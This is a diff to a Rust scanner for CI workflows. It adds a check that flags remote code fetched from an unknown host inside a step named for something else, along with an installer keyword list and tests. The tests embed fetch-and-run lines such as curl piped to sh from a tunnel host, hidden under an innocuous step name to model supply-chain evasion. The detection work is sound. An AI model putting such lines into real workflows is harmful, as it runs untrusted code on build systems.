@@ -10,7 +10,8 @@
 
 use crate::destination;
 use crate::flow::command::REMOTE_CODE;
-use crate::flow::trace::ObservationKind;
+use crate::flow::trace::{Observation, ObservationKind};
+use crate::report::Class;
 use crate::signal::Signal;
 use crate::technique::{Evidence, Sighting, Technique};
 
@@ -48,8 +49,81 @@ impl Technique for RemoteCode {
             let signals = [Signal::RemoteCode, Signal::DropBox].into();
             found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
         }
+        let strange = evidence.trace.observations.iter().enumerate().find(|(_, observation)| {
+            observation.kind == ObservationKind::RemoteCode && is_out_of_place(evidence, observation)
+        });
+        if let Some((at, _)) = strange {
+            let signals = [Signal::RemoteCode, Signal::ForeignDestination, Signal::CodeOutOfPlace].into();
+            found.push(Sighting { observations: vec![at], signals, ..Sighting::default() });
+        }
         found
     }
+}
+
+/// Words of addresses and steps that install something.
+const INSTALLS: &[&str] = &[
+    "install",
+    "setup",
+    "get",
+    "bootstrap",
+    "init",
+    "script",
+    "download",
+    "dl",
+    "cli",
+    "sh",
+    "run",
+    "up",
+    "raw",
+    "release",
+    "start",
+    "deploy",
+    "dependencies",
+    "deps",
+    "tool",
+    "prepare",
+    "provision",
+    "configure",
+    "bash",
+    "pkg",
+    "packages",
+    "rpm",
+    "deb",
+    "repo",
+    "env",
+    "upload",
+    "coverage",
+    "agent",
+    "connect",
+    "docker",
+];
+
+/// Code from a host that is no known service and looks like no installer, in a step that is named for something else.
+fn is_out_of_place(evidence: &Evidence<'_>, observation: &Observation) -> bool {
+    let place = destination::of_address(&observation.detail);
+    let Some(host) = place.host.as_deref().filter(|_| place.class == Class::Unknown && !place.local) else {
+        return false;
+    };
+    let step = evidence.workflow.jobs.get(observation.job).and_then(|job| job.steps.get(observation.step));
+    let Some(name) = step.and_then(|step| step.name.as_deref()) else { return false };
+    let address = place.url.as_ref().map_or("", |url| url.unescaped()).to_ascii_lowercase();
+    let words = |text: &str| -> Vec<String> {
+        let plain = text.to_ascii_lowercase();
+        plain
+            .split(|c: char| !c.is_ascii_alphanumeric())
+            .filter(|word| !word.is_empty())
+            .map(str::to_owned)
+            .collect()
+    };
+    let installs = |word: &String| {
+        INSTALLS.iter().any(|known| word == known || known.len() >= 5 && word.starts_with(known))
+    };
+    let of_step = words(name);
+    let domain = destination::registrable(host);
+    let label = domain.split('.').next().unwrap_or("");
+    let named_for =
+        of_step.iter().any(|word| word.len() >= 3 && (label.contains(word.as_str()) || word.contains(label)));
+    !named_for && !of_step.iter().any(installs) && !words(&address).iter().any(installs)
 }
 
 #[cfg(test)]
@@ -74,9 +148,31 @@ mod tests {
             "remote-code",
             "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://x.trycloudflare.com/s | sh\n",
             Verdict::Suspicious,
-            &[],
-            &[],
+            &["*"],
+            &["x.trycloudflare.com"],
         );
+    }
+
+    /// Evasion: in an action that everybody uses, before the work that the step is named for.
+    #[test]
+    fn code_in_a_step_that_is_named_for_something_else() {
+        let action = |name: &str, address: &str| {
+            format!(
+                "name: Setup\ndescription: x\nruns:\n  using: composite\n  steps:\n    - name: {name}\n      shell: bash\n      run: |\n        curl -sSfL {address} | bash\n        grep -m1 '^go ' go.mod\n"
+            )
+        };
+        let strange = "https://molten-widgets.example/molt";
+        check(
+            "remote-code",
+            &action("Read the version", strange),
+            Verdict::Malicious,
+            &["*"],
+            &["molten-widgets.example"],
+        );
+        silent(&action("Install molt", strange));
+        silent(&action("Molten widgets", strange));
+        silent(&action("Read the version", "https://get.widgets.example/molt"));
+        silent(&action("Read the version", "https://widgets.example/install.sh"));
     }
 
     #[test]
